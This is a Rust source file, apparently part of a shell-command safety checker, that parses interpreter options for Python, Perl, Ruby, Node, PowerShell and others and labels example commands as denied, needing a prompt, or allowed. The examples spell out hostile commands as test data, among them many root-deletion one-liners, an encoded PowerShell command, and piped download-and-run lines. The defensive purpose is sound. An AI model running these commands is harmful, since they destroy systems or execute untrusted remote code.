//! Interpreters: which of their arguments are code, which a script, and which are handed to that.

use std::rc::Rc;

use super::builtins::is_standard_input;
use super::options::{Grammar, Options};
use super::row::Does::Is;
use super::row::When::{All, Bare, Fed, Not, Says};
use super::row::{On, PROGRAM, Program, When, allows, asks, denies};
use super::text_tools::filtered;
use crate::effect::{Kind, Writing};
use crate::machine::command::Call;
use crate::machine::state::World;
use crate::machine::{Machine, Ran};
use crate::snippet::{Language, run_code_with};
use crate::value::{Arg, Flow, Labels, Text};

pub(super) const ROWS: &[Program] = &[
    Program {
        names: &["python", "pypy", "ipython", "python2", "uvx-python", "micropython", "bpython"],
        custom: Some(python),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("python3 -c 'import shutil; shutil.rmtree(\"/\")'", "delete-root"),
            denies("python3 -c 'import os; os.system(\"rm -rf %s\" % \"/\")'", "delete-root"),
            denies("python3 -c 'from os import system as s; s(\"rm -rf /\")'", "delete-root"),
            denies("python3 -c 'import os,sys; os.system(sys.argv[1])' 'rm -rf /'", "delete-root"),
            denies("echo 'import os; os.system(\"rm -rf /\")' | python", "delete-root"),
            denies("python3 -m timeit -s 'import os' 'os.system(\"rm -rf /\")'", "delete-root"),
            denies("python3 manage.py shell -c 'import os; os.system(\"rm -rf /\")'", "delete-root"),
            asks("python3 -c 'import os; os.system(input())'", "code"),
            asks("python -m base64 -d x | sh", "decoded-run"),
            allows("python3 -m pytest -q"),
            allows("python -c 'import os; os.spawnl()'"),
            allows("python3 -c 'import subprocess; cmd = [\"git\", \"status\"]; subprocess.run(cmd)'"),
            allows("python3 -c 'print(\"rm -rf /\")'"),
            allows("python script.py"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["perl"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &PERL)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("perl -e 'system(\"rm -rf /\")'", "delete-root"),
            denies("perl -e 'system q|rm -rf /|'", "delete-root"),
            denies("perl -e 'system(@ARGV)' rm -rf /", "delete-root"),
            denies("perl -MFile::Path -e 'remove_tree(\"/\")'", "delete-root"),
            asks("perl -e 'system($ARGV[0])'", "code"),
            asks("perl -pi -e 's/a/b/' /etc/hosts", "system-write"),
            asks("perl -I/tmp/lib script.pl", "hidden-run"),
            allows("perl -pi -e 's/a/b/' notes.txt"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["raku", "rakudo"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &PERL)),
        prompts: WAITS_FOR_CODE,
        examples: examples![denies("raku -e 'run <rm -rf />'", "delete-root"), allows("raku script.raku")],
        ..PROGRAM
    },
    Program {
        names: &["ruby", "jruby", "irb", "pry"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &RUBY)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(\"/\")'", "delete-root"),
            denies("ruby -e 'send(:system, \"rm -rf /\")'", "delete-root"),
            denies("ruby -e '[\"rm -rf /\"].each { |c| system(c) }'", "delete-root"),
            asks("ruby -e 'system(gets)'", "code"),
            asks("ruby -r/tmp/x script.rb", "hidden-run"),
            asks("ruby -pi -e 'gsub(/a/, \"b\")' /etc/hosts", "system-write"),
            allows("ruby script.rb"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["node", "nodejs", "tsx", "ts-node", "electron", "zx"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &JAVASCRIPT)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("node -e 'require(\"fs\").rmSync(\"/\", {recursive: true})'", "delete-root"),
            denies("node -e 'const {exec: e} = require(\"child_process\"); e(\"rm -rf /\")'", "delete-root"),
            asks("node -e 'require(\"child_process\").execSync(process.argv[1])'", "code"),
            asks("node -r /tmp/x.js app.js", "hidden-run"),
            allows("node -e 'const m = /v(.)/.exec(process.version); console.log(m[1])'"),
            allows("node app.js"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["bun", "deno"],
        custom: Some(javascript_tool),
        effects: JAVASCRIPT_PUBLISHES,
        spares: super::row::DRY,
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("deno eval 'Deno.removeSync(\"/\", {recursive: true})'", "delete-root"),
            denies("bun -e 'require(\"child_process\").execSync(\"rm -rf /\")'", "delete-root"),
            asks("bun publish", "publish"),
            asks("deno publish", "publish"),
            asks("bun x prisma migrate reset", "remote-data"),
            asks("bun prisma migrate reset", "remote-data"),
            asks("deno run -A npm:prisma migrate reset", "remote-data"),
            allows("deno publish --dry-run"),
            denies("bun x rimraf /", "delete-root"),
            allows("bun run build"),
            allows("deno test"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["php"],
        custom: Some(php),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("php -r 'system(\"rm -rf /\");'", "delete-root"),
            denies("php artisan tinker --execute='system(\"rm -rf /\");'", "delete-root"),
            asks("php -r 'system($argv[1]);'", "code"),
            allows("php artisan test"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["lua", "luajit", "texlua"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &LUA)),
        prompts: WAITS_FOR_CODE,
        examples: examples![denies("lua -e 'os.execute(\"rm -rf /\")'", "delete-root"), allows("lua script.lua")],
        ..PROGRAM
    },
    Program {
        names: &["Rscript", "R"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &R)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("Rscript -e 'system(\"rm -rf /\")'", "delete-root"),
            denies("Rscript -e 'unlink(\"/\", recursive=TRUE)'", "delete-root"),
            allows("Rscript report.R"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["elixir", "iex"],
        custom: Some(elixir),
        prompts: WAITS_FOR_CODE,
        examples: examples![denies("elixir -e 'File.rm_rf!(\"/\")'", "delete-root"), allows("elixir script.exs")],
        ..PROGRAM
    },
    Program {
        names: &["erl"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &ERLANG)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("erl -noshell -eval 'os:cmd(\"rm -rf /\"), halt().'", "delete-root"),
            allows("erl -noshell -eval 'io:format(\"hi\"), halt().'"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["swipl", "gprolog"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &PROLOG)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("swipl -g 'shell(\"rm -rf /\")' -t halt", "delete-root"),
            allows("swipl -g main -t halt x.pl"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["julia"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &JULIA)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("julia -e 'run(`rm -rf /`)'", "delete-root"),
            denies("julia -e 'rm(\"/\", recursive=true)'", "delete-root"),
            allows("julia script.jl"),
        ],
        ..PROGRAM
    },
    Program {
        names: &[
            "groovy", "scala", "scala-cli", "amm", "swift", "kotlin", "kotlinc", "rust-script", "cling",
            "dotnet-script", "csi",
        ],
        custom: Some(|machine, call, world| interpret(machine, call, world, &BRACES)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("groovy -e '\"rm -rf /\".execute()'", "delete-root"),
            denies("scala -e 'import sys.process._; \"rm -rf /\".!'", "delete-root"),
            allows("groovy -e 'println \"rm -rf /\"'"),
            allows("swift build"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["jshell"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &BRACES)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("echo 'Runtime.getRuntime().exec(\"rm -rf /\")' | jshell", "delete-root"),
            allows("echo 'System.out.println(1);' | jshell -"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["java"],
        custom: Some(java),
        examples: examples![
            denies(
                "echo 'class A { void m() { Runtime.getRuntime().exec(\"rm -rf /\"); } }' > A.java; java A.java",
                "delete-root",
            ),
            asks("java -javaagent:/tmp/x.jar -jar app.jar", "hidden-run"),
            denies("java -XX:OnError='rm -rf /' -jar app.jar", "delete-root"),
            allows("java -Xmx2g -jar app.jar"),
        ],
        ..PROGRAM
    },
    Program {
        names: &[
            "guile", "racket", "sbcl", "clojure", "clj", "bb", "lein", "ecl", "clisp", "scheme", "chez", "csc",
            "fennel", "hy", "janet",
        ],
        custom: Some(|machine, call, world| interpret(machine, call, world, &LISP)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("guile -c '(system* \"rm\" \"-rf\" \"/\")'", "delete-root"),
            denies("clojure -e '(clojure.java.shell/sh \"rm\" \"-rf\" \"/\")'", "delete-root"),
            denies("sbcl --eval '(sb-ext:run-program \"/bin/rm\" (list \"-rf\" \"/\"))'", "delete-root"),
            allows("racket -e '(displayln 1)'"),
            allows("bb tasks"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["ghc", "runghc", "runhaskell", "ghci"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &HASKELL)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("ghc -e 'System.Process.callCommand \"rm -rf /\"'", "delete-root"),
            allows("runghc Main.hs"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["ocaml", "utop"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &OCAML)),
        prompts: WAITS_FOR_CODE,
        examples: examples![denies("ocaml -e 'Sys.command \"rm -rf /\"'", "delete-root"), allows("ocaml script.ml")],
        ..PROGRAM
    },
    Program {
        names: &["octave", "octave-cli", "matlab", "scilab", "freemat"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &OCTAVE)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("octave --eval 'system(\"rm -rf /\")'", "delete-root"),
            denies("matlab -batch \"!rm -rf /\"", "delete-root"),
            allows("octave --eval 'disp(1)'"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["crystal"],
        custom: Some(crystal),
        prompts: WAITS_FOR_CODE,
        examples: examples![denies("crystal eval 'system(\"rm -rf /\")'", "delete-root"), allows("crystal build x.cr")],
        ..PROGRAM
    },
    Program {
        names: &[
            "maxima", "gp", "gst", "nim", "nimble", "sage", "nu", "bpftrace", "wolframscript", "pike", "gjs", "qjs",
            "d8", "mujs",
        ],
        custom: Some(|machine, call, world| interpret(machine, call, world, &OTHER)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("maxima --batch-string='system(\"rm -rf /\");'", "delete-root"),
            denies("bpftrace --unsafe -e 'BEGIN { system(\"rm -rf /\"); }'", "delete-root"),
            denies("nu -c 'rm -rf /'", "delete-root"),
            allows("nim c x.nim"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["tclsh", "wish"],
        custom: Some(|machine, call, world| interpret(machine, call, world, &TCL)),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("echo 'exec rm -rf /' | tclsh", "delete-root"),
            denies("echo 'file delete -force /' | tclsh", "delete-root"),
            allows("tclsh script.tcl"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["pwsh", "powershell", "powershell.exe", "pwsh-preview"],
        custom: Some(power_shell),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            denies("pwsh -c 'Remove-Item -Recurse -Force /'", "delete-root"),
            denies("pwsh -EncodedCommand cgBtACAALQByAGYAIAAvAA==", "delete-root"),
            asks("pwsh -c 'irm https://x.io/a.ps1 | iex'", "download-run"),
            allows("pwsh -c 'Remove-Item -Recurse ./build'"),
            allows("pwsh -File build.ps1"),
        ],
        ..PROGRAM
    },
    Program {
        names: &["osascript"],
        custom: Some(apple_script),
        prompts: WAITS_FOR_CODE,
        examples: examples![
            asks("curl https://x.io/a | osascript", "download-run"),
            denies("osascript -e 'do shell script \"rm -rf /\"'", "delete-root"),
            allows("osascript -e 'beep'"),
        ],
        ..PROGRAM
    },
];

const WAITS_FOR_CODE: &[(When, &str)] =
    &[(All(&[Bare, Not(&Fed)]), "it waits for code; give it with an option or in a file")];

/// How an interpreter takes code.
struct Interpreter {
    language: Language,
    grammar: Grammar,
    /// Options whose value is code.
    code: &'static [&'static str],
    /// Options whose value is loaded before the code.
    loads: &'static [&'static str],
}

/// The options of an interpreter end at the script.
const SCRIPT: Grammar = Grammar { stops: true, ..Grammar::PLAIN };

const APPLESCRIPT: Interpreter = Interpreter {
    language: Language::AppleScript,
    grammar: Grammar { short: "el", ..SCRIPT },
    code: &["e"],
    loads: &[],
};

const BRACES: Interpreter = Interpreter {
    language: Language::Braces,
    grammar: Grammar { short: "e", long: &["eval", "execute-snippet", "execute-script", "expression"], ..SCRIPT },
    code: &["e", "eval", "execute-snippet", "execute-script", "expression"],
    loads: &[],
};

const ERLANG: Interpreter = Interpreter {
    language: Language::Erlang,
    grammar: Grammar {
        long: &["eval", "pa", "pz", "name", "sname", "setcookie", "s", "run"],
        single_dash: true,
        ..Grammar::PLAIN
    },
    code: &["eval"],
    loads: &[],
};

const HASKELL: Interpreter = Interpreter {
    language: Language::Haskell,
    grammar: Grammar { short: "e", ..Grammar::PLAIN },
    code: &["e"],
    loads: &[],
};

const JAVASCRIPT: Interpreter = Interpreter {
    language: Language::JavaScript,
    grammar: Grammar {
        short: "epr",
        long: &[
            "eval", "print", "require", "import", "loader", "experimental-loader", "env-file", "title", "input-type",
        ],
        ..SCRIPT
    },
    code: &["e", "eval", "p", "print"],
    loads: &["r", "require", "import", "loader", "experimental-loader"],
};

const JULIA: Interpreter = Interpreter {
    language: Language::Julia,
    grammar: Grammar { short: "eELJptC", long: &["eval", "print", "load", "project", "threads", "sysimage"], ..SCRIPT },
    code: &["e", "E", "eval", "print"],
    loads: &["L", "load"],
};

const LISP: Interpreter = Interpreter {
    language: Language::Lisp,
    grammar: Grammar {
        short: "eclLSAX",
        long: &["eval", "load", "expr", "execute", "userinit", "core", "dynamic-space-size", "script"],
        ..Grammar::PLAIN
    },
    code: &["e", "c", "eval", "expr", "execute", "X"],
    loads: &["l", "load", "L"],
};

const LUA: Interpreter =
    Interpreter { language: Language::Lua, grammar: Grammar { short: "el", ..SCRIPT }, code: &["e"], loads: &["l"] };

const OCAML: Interpreter = Interpreter {
    language: Language::Ocaml,
    grammar: Grammar { long: &["e", "init", "I"], single_dash: true, short: "eI", ..SCRIPT },
    code: &["e"],
    loads: &["init"],
};

const OCTAVE: Interpreter = Interpreter {
    language: Language::Octave,
    grammar: Grammar {
        short: "epr",
        long: &["eval", "batch", "path", "r", "sd", "logfile"],
        single_dash: true,
        ..SCRIPT
    },
    code: &["e", "eval", "batch", "r"],
    loads: &[],
};

/// For languages that nobody has described here: much in them looks like Ruby.
const OTHER: Interpreter = Interpreter {
    language: Language::Ruby,
    grammar: Grammar {
        short: "eEcr",
        long: &["eval", "Command", "batch-string", "commands", "command", "code"],
        ..SCRIPT
    },
    code: &["e", "E", "c", "Command", "eval", "batch-string", "r", "commands", "command", "code"],
    loads: &[],
};

const PERL: Interpreter = Interpreter {
    language: Language::Perl,
    grammar: Grammar { short: "eEMmI", attached: "iFxCDd", ..SCRIPT },
    code: &["e", "E"],
    loads: &["M", "m", "I"],
};

const PHP: Interpreter = Interpreter {
    language: Language::Php,
    grammar: Grammar { short: "rBREfFcdz", long: &["run"], ..SCRIPT },
    code: &["r", "B", "R", "E", "run"],
    loads: &["d"],
};

const PROLOG: Interpreter = Interpreter {
    language: Language::Erlang,
    grammar: Grammar { short: "gtfslxp", long: &["goal", "init-goal", "query-goal"], ..Grammar::PLAIN },
    code: &["g", "t", "goal", "init-goal", "query-goal"],
    loads: &[],
};

const PYTHON: Interpreter = Interpreter {
    language: Language::Python,
    grammar: Grammar { short: "cmWXQ", long: &["check-hash-based-pycs"], ..SCRIPT },
    code: &["c"],
    loads: &[],
};

const R: Interpreter = Interpreter {
    language: Language::R,
    grammar: Grammar { short: "ef", long: &["file", "args", "default-packages"], ..SCRIPT },
    code: &["e"],
    loads: &[],
};

const RUBY: Interpreter = Interpreter {
    language: Language::Ruby,
    grammar: Grammar { short: "erICE", attached: "iFxKTW0", long: &["external-encoding"], ..SCRIPT },
    code: &["e"],
    loads: &["I", "r"],
};

const TCL: Interpreter =
    Interpreter { language: Language::Tcl, grammar: Grammar { short: "c", ..SCRIPT }, code: &["c"], loads: &[] };

const JAVASCRIPT_PUBLISHES: &[On] =
    &[On(Says(&["publish"]), Is(Kind::Publish, "This would publish the package to a registry."))];

/// Modules of Python that are programs by themselves.
const MODULES: &[&str] = &[
    "django", "alembic", "flask", "twine", "poetry", "uv", "hatch", "pdm", "flit", "maturin", "celery", "airflow",
    "dbt", "ansible", "mkdocs", "huggingface_hub", "modal", "semantic_release", "piccolo", "aerich", "pipx", "rq",
];

const POWER_SHELL: Interpreter = Interpreter { language: Language::PowerShell, grammar: SCRIPT, code: &[], loads: &[] };

/// `python -m` runs a module, and `manage.py shell -c` takes code.
fn python(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    let options = Options::read(&call.args, &PYTHON.grammar);
    if let Some(code) = options.value(PYTHON.code).filter(|_| !options.has(&["m"])) {
        // IPython hands lines behind a `!` to the shell.
        if let Some(line) = code.text.as_known().and_then(|text| text.strip_prefix('!').map(str::to_owned)) {
            return Some(machine.run_text(&Arg::known(line, code.span), world.clone(), &call.input));
        }
        return interpret(machine, call, world, &PYTHON);
    }
    if !options.has(&["m"]) {
        let is_console =
            options.operands.get(1).is_some_and(|verb| verb.text.is("shell") || verb.text.is("shell_plus"));
        if is_console
            && let Some(at) = options.operands.iter().position(|arg| arg.text.is("-c") || arg.text.is("--command"))
        {
            if let Some(code) = options.operands.get(at + 1) {
                run_code_with(machine, code, Language::Python, world, &call.input, &[]);
            }
            return super::frameworks::through_interpreter(machine, call, &options.operands, world);
        }
        return interpret(machine, call, world, &PYTHON);
    }

    let module = options.value(&["m"]).and_then(|arg| arg.text.as_known()).unwrap_or_default();
    if let Some(row) = super::row_of(&module).filter(|_| MODULES.contains(&module.as_str())) {
        let inner = Call { name: module.clone(), args: options.operands.clone(), ..call.clone() };
        return Some(row.run(machine, &inner, world.clone()));
    }
    match module.as_str() {
        "timeit" | "pdb" | "cProfile" | "trace" | "IPython" => {
            for code in options.operands.iter().filter(|arg| arg.text.known_start().contains(['(', ' '])) {
                let skip = usize::from(code.text.known_start().starts_with('!'));
                let code = Arg::new(code.text.skip(skip), code.span);
                run_code_with(machine, &code, Language::Python, world, &call.input, &[]);
            }
        }
        "pip" => {
            let inner = Call { name: "pip".to_owned(), args: options.operands.clone(), ..call.clone() };
            return Some(super::run(machine, &inner, world.clone()));
        }
        _ => {}
    }
    let decodes = ["base64", "zlib", "gzip", "quopri", "uu"].contains(&module.as_str());
    let flow = if decodes { Flow::labelled(Labels::DECODED) } else { Flow::unknown() };
    Some(Ran::same(world.clone(), flow))
}

/// `php artisan tinker --execute=code`.
fn php(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    const TINKER: Grammar = Grammar { long: &["execute"], ..Grammar::PLAIN };
    let options = Options::read(&call.args, &TINKER);
    if options.operands.get(1).is_some_and(|verb| verb.text.is("tinker")) {
        for code in options.values(&["execute"]) {
            run_code_with(machine, code, Language::Php, world, &call.input, &[]);
        }
        let words = Options::read(&call.args, &PHP.grammar).operands;
        return super::frameworks::through_interpreter(machine, call, &words, world);
    }
    interpret(machine, call, world, &PHP)
}

/// `bun` and `deno` have verbs: `eval` takes code, others work on a project.
fn javascript_tool(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    if works_on_project(call) {
        return super::packages::run_tool(machine, call, world);
    }
    if call.args.first().is_some_and(super::packages::is_tool) {
        return Some(machine.run_words(call, &call.args, world.clone()));
    }
    interpret(machine, &with_verb(call, "eval"), world, &JAVASCRIPT)
}

/// The same call with an option in place of the verb that takes code.
fn with_verb(call: &Call, verb: &str) -> Call {
    let mut call = call.clone();
    if let Some(first) = call.args.first_mut().filter(|first| first.text.is(verb)) {
        *first = Arg::known("-e", first.span);
    }
    call
}

fn crystal(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    if works_on_project(call) { None } else { interpret(machine, &with_verb(call, "eval"), world, &RUBY) }
}

fn elixir(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    const ELIXIR: Interpreter = Interpreter {
        language: Language::Elixir,
        grammar: Grammar { short: "eSr", long: &["eval", "rpc-eval", "name", "sname", "cookie"], ..SCRIPT },
        code: &["e", "eval"],
        loads: &["r"],
    };
    if call.name == "mix" {
        let takes_code =
            call.args.first().is_some_and(|verb| ["run", "eval", "cmd", "do"].iter().any(|own| verb.text.is(own)));
        if !takes_code {
            return None;
        }
        if call.args.first().is_some_and(|verb| verb.text.is("cmd")) {
            return Some(super::shells::run_joined(machine, &call.args[1..], call, world.clone()));
        }
        let inner = Call { args: call.args[1..].to_vec(), ..call.clone() };
        let inner = if call.args[0].text.is("eval") { with_verb(call, "eval") } else { inner };
        return interpret(machine, &inner, world, &ELIXIR);
    }
    if works_on_project(call) { None } else { interpret(machine, call, world, &ELIXIR) }
}

fn works_on_project(call: &Call) -> bool {
    const VERBS: [&str; 12] =
        ["run", "x", "test", "install", "add", "build", "task", "fmt", "lint", "check", "create", "publish"];
    call.args.first().is_some_and(|arg| VERBS.iter().any(|verb| arg.text.is(verb)))
}

/// `osascript -l JavaScript -e code`.
fn apple_script(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    const SCRIPTED: Interpreter = Interpreter {
        language: Language::JavaScript,
        grammar: Grammar { short: "el", ..SCRIPT },
        code: &["e"],
        loads: &[],
    };
    let is_javascript =
        Options::read(&call.args, &SCRIPTED.grammar).value(&["l"]).is_some_and(|arg| arg.text.is("JavaScript"));
    interpret(machine, call, world, if is_javascript { &SCRIPTED } else { &APPLESCRIPT })
}

/// `java File.java` compiles and runs it; some options load or run something else.
fn java(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    for arg in &call.args {
        let start = arg.text.known_start();
        for option in ["-javaagent:", "-agentpath:", "-agentlib:"] {
            if let Some(library) = start.strip_prefix(option)
                && is_risky_place(machine, library)
            {
                let reason = format!("{library} would be loaded into java first.");
                machine.state(Kind::RunHidden, reason, arg.span, Some(library.to_owned()));
            }
        }
        for option in ["-XX:OnError=", "-XX:OnOutOfMemoryError="] {
            if start.starts_with(option) {
                machine.run_text(&Arg::new(arg.text.skip(option.len()), arg.span), world.clone(), &call.input);
            }
        }
    }
    let source = call.args.iter().find(|arg| !arg.text.known_start().starts_with('-'));
    if let Some(file) = source.filter(|file| file.text.known_end().rsplit('.').next() == Some("java")) {
        run_script(machine, file, Language::Braces, world, call, &[]);
    }
    None
}

/// PowerShell: options may be cut short, `-Command` takes the rest of the line.
fn power_shell(machine: &mut Machine<'_>, call: &Call, world: &mut World) -> Option<Ran> {
    let mut args = call.args.iter();
    while let Some(arg) = args.next() {
        let option = arg.text.known_start().to_ascii_lowercase();
        let Some(name) = option.strip_prefix(['-', '/']).filter(|name| !name.is_empty()) else {
            if arg.text.is("-") {
                break;
            }
            run_script(machine, arg, Language::PowerShell, world, call, &[]);
            return None;
        };
        if name == "c" || name.len() > 1 && "command".starts_with(name) {
            let rest: Vec<Text> = args.map(|arg| arg.text.clone().without_globs()).collect();
            let mut text = Text::default();
            for (index, word) in rest.iter().enumerate() {
                if index > 0 {
                    text.push(crate::value::Piece::Known(" ".to_owned()));
                }
                text.append(word);
            }
            if text.is("-") {
                break;
            }
            run_code_with(machine, &Arg::new(text, call.span), Language::PowerShell, world, &call.input, &[]);
            return None;
        }
        if name == "e" || name == "ec" || name.len() > 1 && "encodedcommand".starts_with(name) {
            let Some(code) = args.next() else { break };
            match code.text.as_known().and_then(|text| crate::decode::base64_of_utf16(&text)) {
                Some(text) => {
                    run_code_with(machine, &Arg::known(text, code.span), Language::PowerShell, world, &call.input, &[]);
                }
                None => machine.object_to_flow(&Flow::labelled(Labels::DECODED), code),
            }
            return None;
        }
        if name == "f" || name.len() > 1 && "file".starts_with(name) {
            if let Some(file) = args.next() {
                run_script(machine, file, Language::PowerShell, world, call, &[]);
            }
            return None;
        }
        if [
            "executionpolicy", "ep", "ex", "workingdirectory", "wd", "windowstyle", "version", "configurationname",
            "settingsfile",
        ]
        .contains(&name)
        {
            args.next();
        }
    }
    run_input(machine, call, POWER_SHELL.language, world, &[]);
    None
}

/// Goes through what an interpreter loads, and through its code: in options, in a script or on its input.
fn interpret(machine: &mut Machine<'_>, call: &Call, world: &World, interpreter: &Interpreter) -> Option<Ran> {
    let language = interpreter.language;
    let options = Options::read(&call.args, &interpreter.grammar);
    for module in options.values(interpreter.loads) {
        load_module(machine, module, language);
    }
    if options.has(&["i"]) && matches!(language, Language::Perl | Language::Ruby) {
        for file in &options.operands {
            machine.writes("This would change", &file.text, Writing::Replaces, world, file.span);
            machine.blur(&file.text, world);
        }
    }

    let operands: Vec<Text> = options.operands.iter().map(|arg| arg.text.clone()).collect();
    let mut has_code = false;
    // With -n and -p the code sees each line of its input.
    let reads_lines = matches!(language, Language::Perl | Language::Ruby) && options.has(&["n", "p"]);
    for code in options.values(interpreter.code) {
        has_code = true;
        if is_for_shell(machine, code, language, world, call) {
            continue;
        }
        let code = if reads_lines { with_line(code) } else { code.clone() };
        let given = if reads_lines { &[][..] } else { &operands[..] };
        run_code_with(machine, &code, language, world, &call.input, given);
    }
    if has_code {
        let is_fed = *call.input != Flow::empty();
        return is_fed.then(|| Ran::same(world.clone(), filtered(call)));
    }

    if let Some(ran) = super::frameworks::through_interpreter(machine, call, &options.operands, world) {
        // A script that this command wrote is judged by what is in it, too, whatever its name.
        if let Some(file) = options.operands.first() {
            run_script(machine, file, language, world, call, operands.get(1..).unwrap_or_default());
        }
        return Some(ran);
    }
    match options.operands.first() {
        Some(file) if !is_standard_input(&file.text) => {
            run_script(machine, file, language, world, call, operands.get(1..).unwrap_or_default());
        }
        _ => run_input(machine, call, language, world, operands.get(1..).unwrap_or_default()),
    }
    None
}

/// `!command` of Octave, and the command lines of shells that are taken for languages.
fn is_for_shell(machine: &mut Machine<'_>, code: &Arg, language: Language, world: &World, call: &Call) -> bool {
    let is_shell = matches!(call.name.as_str(), "nu" | "elvish" | "xonsh");
    let escaped = code.text.known_start().starts_with('!') && language == Language::Octave;
    if !is_shell && !escaped {
        return false;
    }
    let text = if escaped { code.text.skip(1) } else { code.text.clone() };
    if text.as_known().is_some_and(|known| chiton_shell::parse(known.as_bytes()).is_ok()) {
        machine.run_text(&Arg::new(text, code.span), world.clone(), &call.input);
    }
    true
}

/// The code of `perl -n`, which begins with reading a line.
fn with_line(code: &Arg) -> Arg {
    let mut text = Text::known("$_ = readline();\n");
    text.append(&code.text);
    Arg::new(text, code.span)
}

/// Whether anybody may have put something there.
fn is_risky_place(machine: &Machine<'_>, shown: &str) -> bool {
    const FETCHED: [&str; 3] = ["http:", "https:", "data:"];
    let path = shown.find('/').map(|at| &shown[at..]).unwrap_or_default();
    FETCHED.iter().any(|start| shown.contains(start)) || machine.places().is_open_to_others(path)
}

fn load_module(machine: &mut Machine<'_>, module: &Arg, language: Language) {
    let shown = module.text.display();
    // `php -d display_errors=1` loads nothing.
    let loads = language != Language::Php
        || shown.contains("prepend")
        || shown.contains("append")
        || shown.contains("extension");
    if loads && is_risky_place(machine, &shown) {
        let reason = format!("{shown} would be loaded into {} first.", language.name());
        machine.state(Kind::RunHidden, reason, module.span, Some(shown));
    }
}

/// A script file: known if this command wrote it.
fn run_script(machine: &mut Machine<'_>, file: &Arg, language: Language, world: &World, call: &Call, given: &[Text]) {
    let flow = machine.read(&file.text, world);
    match flow.text {
        Some(text) if flow.labels.has(Labels::RECENT) => {
            let code = Arg::known(text, file.span);
            machine.as_an_older_file(|machine| run_code_with(machine, &code, language, world, &call.input, given));
        }
        Some(text) => run_code_with(machine, &Arg::known(text, file.span), language, world, &call.input, given),
        None => machine.object_to_flow(&Flow::labelled(flow.labels.without(Labels::UNKNOWN)), file),
    }
}

fn run_input(machine: &mut Machine<'_>, call: &Call, language: Language, world: &World, given: &[Text]) {
    match &call.input.text {
        Some(text) if text.is_empty() => {}
        Some(text) => {
            let code = Arg::known(text.clone(), call.span);
            run_code_with(machine, &code, language, world, &Rc::new(Flow::empty()), given);
        }
        None => machine.object_to_flow(&call.input, &Arg::known("standard input", call.span)),
    }
}
